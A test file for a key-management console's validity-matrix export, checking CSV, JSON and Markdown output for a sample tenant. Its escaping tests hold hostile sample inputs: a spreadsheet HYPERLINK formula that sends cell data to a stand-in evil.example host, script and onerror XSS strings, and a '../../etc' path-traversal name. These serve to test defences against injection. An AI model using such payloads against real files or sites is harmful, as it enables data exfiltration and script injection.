// @vitest-environment node
import fc from 'fast-check';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { assertProperty, propertyTimeout } from '../test/property';
import { replay } from './apply';
import { changeStatus, createKey, inviteAccount } from './commands';
import {
  csvField,
  matrixFileName,
  matrixToCsv,
  matrixToJson,
  matrixToMarkdown,
} from './matrix-export';
import type { Tenant } from './model';
import { janeTinoScenario } from './scenarios/jane-tino';
import { mustApply, runIntents, scenarioRunArb } from './testing/arbitraries';
import { accountNamed } from './testing/named';
import { advanceValidityView, buildValidityView } from './validity-view';
import { type WhatIfRow, whatIfMatrix } from './what-if';

// ---------------------------------------------------------------------------------------------
// The FAQ's tenant, with Jane Tino deactivated

function janeTino(): Tenant {
  const { tenant, refused } = replay(janeTinoScenario.genesis, janeTinoScenario.events);
  if (refused.length > 0) throw new Error('The jane-tino log has refused events');
  return tenant;
}

function withStatus(
  tenant: Tenant,
  name: string,
  type: 'account_deactivated' | 'account_deleted',
): Tenant {
  return mustApply(tenant, changeStatus(tenant, type, accountNamed(tenant, name).id));
}

const base = janeTino();
const janeDeactivated = withStatus(base, 'Jane Tino', 'account_deactivated');
const janeDeactivatedRows = whatIfMatrix(janeDeactivated);

/**
 * A small RFC 4180 parser, strict where the export promises to be: records end with CRLF, a
 * quote appears only around a field or doubled inside one, no bare CR or LF outside quotes.
 */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let i = 0;
  while (i < text.length) {
    let field = '';
    if (text[i] === '"') {
      i++;
      for (;;) {
        if (i >= text.length) throw new Error('An unterminated quoted field');
        if (text[i] === '"') {
          if (text[i + 1] !== '"') break;
          field += '"';
          i += 2;
        } else {
          field += text[i];
          i++;
        }
      }
      i++;
    } else {
      while (i < text.length && text[i] !== ',' && text[i] !== '\r') {
        if (text[i] === '"' || text[i] === '\n') {
          throw new Error(`A bare ${JSON.stringify(text[i])} at ${i}`);
        }
        field += text[i];
        i++;
      }
    }
    record.push(field);
    if (text[i] === ',') {
      i++;
      if (i === text.length) record.push('');
    } else if (text.startsWith('\r\n', i)) {
      records.push(record);
      record = [];
      i += 2;
    } else if (i !== text.length) {
      throw new Error(`${JSON.stringify(text[i])} after a field at ${i}`);
    }
  }
  if (record.length > 0) records.push(record);
  return records;
}

const RULE_OF_CODE: Readonly<Record<string, string>> = {
  VALID: 'auth.valid',
  OWNER_DEACTIVATED: 'auth.personal-owner-deactivated',
  OWNER_DELETED: 'auth.personal-owner-deleted',
  KEY_REVOKED: 'auth.key-revoked',
};

// key, creator, then Now, Active, Deactivated, Reactivated, Deleted, Re-invited
// biome-ignore format: the expected matrix reads best as a table
const JANE_DEACTIVATED: ReadonlyArray<readonly [string, string, ...string[]]> = [
  ['Jane personal',     'Jane Tino',  '401 OWNER_DEACTIVATED', '200 VALID', '401 OWNER_DEACTIVATED', '200 VALID', '401 OWNER_DELETED', '401 OWNER_DELETED'],
  ['Jane team',         'Jane Tino',  '200 VALID',             '200 VALID', '200 VALID',             '200 VALID', '200 VALID',         '200 VALID'],
  ['Jane service',      'Jane Tino',  '200 VALID',             '200 VALID', '200 VALID',             '200 VALID', '200 VALID',         '200 VALID'],
  ['Jane tenant owner', 'Jane Tino',  '200 VALID',             '200 VALID', '200 VALID',             '200 VALID', '200 VALID',         '200 VALID'],
  ['Sam personal',      'Sam Patel',  '200 VALID',             '200 VALID', '401 OWNER_DEACTIVATED', '200 VALID', '401 OWNER_DELETED', '401 OWNER_DELETED'],
  ['Sam team',          'Sam Patel',  '200 VALID',             '200 VALID', '200 VALID',             '200 VALID', '200 VALID',         '200 VALID'],
  ['Eli personal',      'Eli Brooks', '200 VALID',             '200 VALID', '401 OWNER_DEACTIVATED', '200 VALID', '401 OWNER_DELETED', '401 OWNER_DELETED'],
  ['Vera personal',     'Vera Lin',   '200 VALID',             '200 VALID', '401 OWNER_DEACTIVATED', '200 VALID', '401 OWNER_DELETED', '401 OWNER_DELETED'],
];

const COLUMN_IDS = ['now', 'active', 'deactivated', 'reactivated', 'deleted', 'reinvited'];

interface ParsedCell {
  status: number | null;
  code: string | null;
  rule: string | null;
  reason?: string;
}
interface ParsedKey {
  id: string;
  name: string;
  scope: string;
  createdBy: string;
  creator: { name: string; email: string } | null;
  cells: Record<string, ParsedCell>;
}
interface ParsedMatrix {
  format: string;
  version: number;
  tenant: { name: string; domain: string };
  columns: Array<{ id: string; label: string }>;
  keys: ParsedKey[];
}

function parseJson(text: string): ParsedMatrix {
  return JSON.parse(text) as ParsedMatrix;
}

function parsedKey(matrix: ParsedMatrix, name: string): ParsedKey {
  const key = matrix.keys.find((candidate) => candidate.name === name);
  if (key === undefined) throw new Error(`No key named ${name} in the export`);
  return key;
}

/** The rows with these names given to keys and creators in turn (names are user input). */
function renamed(rows: readonly WhatIfRow[], names: readonly string[]): WhatIfRow[] {
  if (names.length === 0) return [...rows];
  const nameAt = (i: number) => names[i % names.length] ?? '';
  return rows.map((row, i) => ({
    ...row,
    key: { ...row.key, name: nameAt(2 * i) },
    creator: row.creator === undefined ? undefined : { ...row.creator, name: nameAt(2 * i + 1) },
  }));
}

// ---------------------------------------------------------------------------------------------

describe('the validity matrix export on the FAQ tenant with Jane deactivated', () => {
  const csv = parseCsv(matrixToCsv(janeDeactivated, janeDeactivatedRows));
  const json = parseJson(matrixToJson(janeDeactivated, janeDeactivatedRows));

  it('starts the CSV with a header naming the key, its creator and the six columns', () => {
    expect(csv[0]).toEqual([
      'Key',
      'Created by',
      'Now',
      'Active',
      'Deactivated',
      'Reactivated',
      'Deleted',
      'Re-invited',
    ]);
    expect(csv).toHaveLength(1 + JANE_DEACTIVATED.length);
  });

  it.each(JANE_DEACTIVATED.map((row, index) => [row[0], index, row] as const))(
    'exports %s with its verdict now and under each stage of its creator',
    (name, index, [, creator, ...cells]) => {
      const email = accountNamed(janeDeactivated, creator).email;
      expect(csv[index + 1]).toEqual([name, `${creator} <${email}>`, ...cells]);

      const key = json.keys[index];
      expect(key?.name).toBe(name);
      expect(key?.creator).toEqual({ name: creator, email });
      expect(key?.createdBy).toBe(accountNamed(janeDeactivated, creator).id);
      const expected = Object.fromEntries(
        COLUMN_IDS.map((column, i) => {
          const [status = '', code = ''] = (cells[i] ?? '').split(' ');
          return [column, { status: Number(status), code, rule: RULE_OF_CODE[code] }];
        }),
      );
      expect(key?.cells).toEqual(expected);
    },
  );

  it('reports Jane’s personal key as 401 OWNER_DEACTIVATED now, by the FAQ’s rule', () => {
    expect(parsedKey(json, 'Jane personal')).toEqual({
      id: 'key_0006',
      name: 'Jane personal',
      scope: 'personal',
      createdBy: accountNamed(janeDeactivated, 'Jane Tino').id,
      creator: { name: 'Jane Tino', email: 'jane.tino@tinocorp.example' },
      cells: expect.objectContaining({
        now: { status: 401, code: 'OWNER_DEACTIVATED', rule: 'auth.personal-owner-deactivated' },
      }),
    });
    expect(parsedKey(json, 'Jane team').cells['now']).toEqual({
      status: 200,
      code: 'VALID',
      rule: 'auth.valid',
    });
  });

  it('writes the whole CSV with CRLF line ends', () => {
    expect(matrixToCsv(janeDeactivated, janeDeactivatedRows)).toBe(
      [
        'Key,Created by,Now,Active,Deactivated,Reactivated,Deleted,Re-invited',
        ...JANE_DEACTIVATED.map(([name, creator, ...cells]) =>
          [name, `${creator} <${accountNamed(janeDeactivated, creator).email}>`, ...cells].join(
            ',',
          ),
        ),
        '',
      ].join('\r\n'),
    );
  });

  it('writes a Markdown table with one row per key', () => {
    const lines = matrixToMarkdown(janeDeactivated, janeDeactivatedRows).split('\n');
    expect(lines.slice(0, 4)).toEqual([
      '# Validity matrix: Tino Corp (tino-corp-1234.tines.com)',
      '',
      '| Key | Created by | Now | Active | Deactivated | Reactivated | Deleted | Re-invited |',
      '| --- | --- | --- | --- | --- | --- | --- | --- |',
    ]);
    expect(lines[4]).toBe(
      '| Jane personal | Jane Tino &lt;jane.tino@tinocorp.example&gt; | 401 OWNER_DEACTIVATED | 200 VALID | 401 OWNER_DEACTIVATED | 200 VALID | 401 OWNER_DELETED | 401 OWNER_DELETED |',
    );
    expect(lines).toHaveLength(4 + JANE_DEACTIVATED.length + 1);
    expect(lines.at(-1)).toBe('');
  });
});

describe('the JSON export', () => {
  afterEach(() => {
    vi.useRealTimers();
  });

  it('has the documented shape, with object keys in a fixed order', () => {
    const json = parseJson(matrixToJson(janeDeactivated, janeDeactivatedRows));
    expect(Object.keys(json)).toEqual(['format', 'version', 'tenant', 'columns', 'keys']);
    expect(json.format).toBe('key-lifecycle-console/validity-matrix');
    expect(json.version).toBe(1);
    expect(json.tenant).toEqual({ name: 'Tino Corp', domain: 'tino-corp-1234.tines.com' });
    expect(json.columns).toEqual([
      { id: 'now', label: 'Now' },
      { id: 'active', label: 'Active' },
      { id: 'deactivated', label: 'Deactivated' },
      { id: 'reactivated', label: 'Reactivated' },
      { id: 'deleted', label: 'Deleted' },
      { id: 'reinvited', label: 'Re-invited' },
    ]);
    expect(json.keys.map((key) => key.id)).toEqual([...janeDeactivated.keys.keys()]);
    for (const key of json.keys) {
      expect(Object.keys(key)).toEqual(['id', 'name', 'scope', 'createdBy', 'creator', 'cells']);
      expect(Object.keys(key.creator ?? {})).toEqual(['name', 'email']);
      expect(Object.keys(key.cells)).toEqual(COLUMN_IDS);
      for (const cell of Object.values(key.cells)) {
        expect(Object.keys(cell)).toEqual(['status', 'code', 'rule']);
      }
    }
  });

  it('gives stages a deleted creator cannot reach a null status and the reducer’s reason', () => {
    const janeDeleted = withStatus(janeDeactivated, 'Jane Tino', 'account_deleted');
    const json = parseJson(matrixToJson(janeDeleted, whatIfMatrix(janeDeleted)));
    const cells = parsedKey(json, 'Jane team').cells;
    expect(cells['now']).toEqual({ status: 200, code: 'VALID', rule: 'auth.valid' });
    expect(cells['active']).toEqual({
      status: null,
      code: null,
      rule: null,
      reason:
        "Jane Tino's account is deleted; a deleted account cannot be reactivated. Re-invite the person instead.",
    });
    expect(Object.keys(cells['deactivated'] ?? {})).toEqual(['status', 'code', 'rule', 'reason']);
    expect(cells['deleted']).toEqual({ status: 200, code: 'VALID', rule: 'auth.valid' });
    expect(parsedKey(json, 'Jane personal').cells['reinvited']).toEqual({
      status: 401,
      code: 'OWNER_DELETED',
      rule: 'auth.personal-owner-deleted',
    });
    expect(parseCsv(matrixToCsv(janeDeleted, whatIfMatrix(janeDeleted)))[2]?.slice(2)).toEqual([
      '200 VALID',
      'n/a',
      'n/a',
      'n/a',
      '200 VALID',
      '200 VALID',
    ]);
  });

  it('is byte-identical for the same state, whenever and however it was computed', () => {
    vi.useFakeTimers();
    vi.setSystemTime(Date.UTC(2026, 0, 1));
    const first = matrixToJson(janeDeactivated, janeDeactivatedRows);
    vi.setSystemTime(Date.UTC(2031, 6, 15, 12, 34, 56));
    // A fresh replay of the same log, and the store's incremental view of it.
    const again = withStatus(janeTino(), 'Jane Tino', 'account_deactivated');
    const event = changeStatus(base, 'account_deactivated', accountNamed(base, 'Jane Tino').id);
    const view = advanceValidityView(buildValidityView(base), again, event);
    expect(matrixToJson(again, whatIfMatrix(again))).toBe(first);
    expect(matrixToJson(again, view.rows)).toBe(first);
    expect(first).not.toMatch(/20(26|31)-/);
  });

  it('is indented by two spaces and ends with one newline', () => {
    const text = matrixToJson(janeDeactivated, janeDeactivatedRows);
    expect(text.split('\n').slice(0, 3)).toEqual([
      '{',
      '  "format": "key-lifecycle-console/validity-matrix",',
      '  "version": 1,',
    ]);
    expect(text.endsWith('}\n')).toBe(true);
    expect(text.endsWith('\n\n')).toBe(false);
  });

  it('holds no secret in any format', () => {
    const secrets = [...janeDeactivated.keys.values()].map((key) => key.secret);
    for (const text of [
      matrixToJson(janeDeactivated, janeDeactivatedRows),
      matrixToCsv(janeDeactivated, janeDeactivatedRows),
      matrixToMarkdown(janeDeactivated, janeDeactivatedRows),
    ]) {
      for (const secret of secrets) expect(text).not.toContain(secret);
      expect(text).not.toContain('sim_');
    }
  });
});

describe('CSV fields', () => {
  it.each([
    ['a plain name', 'Jane personal', 'Jane personal'],
    ['a comma', 'Prod, EU', '"Prod, EU"'],
    ['quotes', 'The "main" key', '"The ""main"" key"'],
    ['a line feed', 'line one\nline two', '"line one\nline two"'],
    ['a CRLF', 'line one\r\nline two', '"line one\r\nline two"'],
    ['a formula', '=1+2', "'=1+2"],
    [
      'a formula with quotes and commas',
      '=HYPERLINK("https://evil.example","Click")',
      `"'=HYPERLINK(""https://evil.example"",""Click"")"`,
    ],
    ['a leading plus', '+31 20 123', "'+31 20 123"],
    ['a leading minus', '-2+3', "'-2+3"],
    ['a leading at sign', '@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['a leading tab', '\t=cmd', "'\t=cmd"],
    ['a leading CR', '\r=cmd', `"'\r=cmd"`],
    ['an equals sign inside', 'a=b', 'a=b'],
    ['an empty name', '', ''],
  ])('quotes or guards %s', (_case, value, expected) => {
    expect(csvField(value)).toBe(expected);
  });

  it('keeps hostile key and person names inside their fields', () => {
    const hostileKey = '=HYPERLINK("https://evil.example?q="&A1,"Open, now")\r\nline 2';
    let tenant = mustApply(
      janeDeactivated,
      inviteAccount(janeDeactivated, {
        email: 'mallory@evil.example',
        name: '@Mallory, "the" <b>admin</b>',
        tenantRole: 'owner',
        permissions: [],
        teamRoles: {},
      }),
    );
    const mallory = accountNamed(tenant, '@Mallory, "the" <b>admin</b>').id;
    tenant = mustApply(
      tenant,
      createKey(tenant, { name: hostileKey, scope: 'personal', createdBy: mallory }),
    );
    const records = parseCsv(matrixToCsv(tenant, whatIfMatrix(tenant)));
    expect(records).toHaveLength(1 + tenant.keys.size);
    expect(records.at(-1)).toEqual([
      `'${hostileKey}`,
      '\'@Mallory, "the" <b>admin</b> <mallory@evil.example>',
      '200 VALID',
      '200 VALID',
      '401 OWNER_DEACTIVATED',
      '200 VALID',
      '401 OWNER_DELETED',
      '401 OWNER_DELETED',
    ]);
  });

  it(
    'has one record per key plus the header, of eight fields each, for any run and names',
    () => {
      const nameArb = fc.oneof(
        fc.string({
          unit: fc.constantFrom(',', '"', '\r', '\n', '=', '+', '-', '@', '\t', '|', 'a', ' ', 'é'),
          maxLength: 12,
        }),
        fc.string({ unit: 'grapheme', maxLength: 12 }),
      );
      assertProperty(
        fc.property(scenarioRunArb, fc.array(nameArb, { maxLength: 6 }), (run, names) => {
          const tenant = runIntents(run.start, run.intents).final;
          const rows = renamed(whatIfMatrix(tenant), names);
          const records = parseCsv(matrixToCsv(tenant, rows));
          expect(records).toHaveLength(1 + tenant.keys.size);
          for (const record of records) expect(record).toHaveLength(8);
          rows.forEach((row, i) => {
            const guarded = /^[=+\-@\t\r]/.test(row.key.name) ? `'${row.key.name}` : row.key.name;
            expect(records[i + 1]?.[0]).toBe(guarded);
          });
        }),
        200,
      );
      // A property run (fast-check): allowed more than 5 s on a busy machine.
    },
    propertyTimeout(30_000),
  );
});

describe('Markdown cells', () => {
  function markdownOf(keyName: string, creatorName = 'Jane Tino'): string {
    const rows = janeDeactivatedRows.slice(0, 1).map((row) => ({
      ...row,
      key: { ...row.key, name: keyName },
      creator: row.creator === undefined ? undefined : { ...row.creator, name: creatorName },
    }));
    const lines = matrixToMarkdown(janeDeactivated, rows).split('\n');
    expect(lines).toHaveLength(6);
    return lines[4] ?? '';
  }

  it.each([
    ['pipes', 'a|b', 'a\\|b'],
    ['backslashes', 'C:\\keys\\', 'C:\\\\keys\\\\'],
    ['a backslash before a pipe', '\\|', '\\\\\\|'],
    ['a script tag', '<script>alert(1)</script>', '&lt;script&gt;alert(1)&lt;/script&gt;'],
    ['ampersands and entities', 'R&D &lt;', 'R&amp;D &amp;lt;'],
    ['a link', '[docs](https://evil.example)', '\\[docs\\](https://evil.example)'],
    [
      'emphasis and code',
      '*bold* _it_ `code` ~~x~~',
      '\\*bold\\* \\_it\\_ \\`code\\` \\~\\~x\\~\\~',
    ],
    ['line breaks', 'one\ntwo\r\nthree', 'one two three'],
  ])('escapes %s in key names', (_case, name, escaped) => {
    expect(markdownOf(name)).toBe(
      `| ${escaped} | Jane Tino &lt;jane.tino@tinocorp.example&gt; | 401 OWNER_DEACTIVATED | 200 VALID | 401 OWNER_DEACTIVATED | 200 VALID | 401 OWNER_DELETED | 401 OWNER_DELETED |`,
    );
  });

  it('lets no raw HTML or extra column through from a person’s name', () => {
    const line = markdownOf('k', '<img src=x onerror=alert(1)>|x');
    expect(line).not.toMatch(/<[a-z]/i);
    expect(line).toContain('&lt;img src=x onerror=alert(1)&gt;\\|x &lt;jane.tino@');
    // Nine unescaped pipes: eight cells.
    expect(line.match(/(?<!\\)\|/g)).toHaveLength(9);
  });
});

describe('file names', () => {
  it.each([
    ['csv', 'tino-corp-1234.tines.com-validity-matrix.csv'],
    ['markdown', 'tino-corp-1234.tines.com-validity-matrix.md'],
    ['json', 'tino-corp-1234.tines.com-validity-matrix.json'],
  ] as const)('names the %s file after the tenant’s domain', (format, expected) => {
    expect(matrixFileName(janeDeactivated, format)).toBe(expected);
  });

  it('keeps path separators and odd characters out of the name', () => {
    expect(matrixFileName({ name: 'x', domain: '../../etc/pass wd' }, 'json')).toBe(
      'etc-pass-wd-validity-matrix.json',
    );
    expect(matrixFileName({ name: 'x', domain: '' }, 'csv')).toBe('tenant-validity-matrix.csv');
  });
});
